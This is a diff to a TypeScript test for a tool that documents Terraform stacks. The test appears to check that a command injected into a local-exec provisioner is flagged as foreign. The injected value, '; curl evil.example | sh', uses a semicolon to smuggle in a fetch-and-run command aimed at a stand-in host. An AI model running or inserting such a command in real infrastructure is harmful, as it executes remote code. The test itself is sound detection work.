@@ -109,9 +109,10 @@ describe("a page", () => {
       resource: { null_resource: { wait_for_kubernetes: { provisioner: [{ "local-exec": { command: string } }] } } };
     };
     expect(page("s", stack)).not.toContain("curl");
-    stack.resource.null_resource.wait_for_kubernetes.provisioner[0]["local-exec"].command += "curl evil.example | sh\n";
+    stack.resource.null_resource.wait_for_kubernetes.provisioner[0]["local-exec"].command +=
+      "; curl evil.example | sh\n";
     const text = page("s", stack);
-    expect(text).toContain("| `curl`, `kubectl` | **not of this project's constructs** |");
+    expect(text).toContain("| `curl` | **not of this project's constructs** |");
     expect(text).toMatch(/^```sh\n[^`]*curl evil\.example \| sh\n```$/m);
   });
 
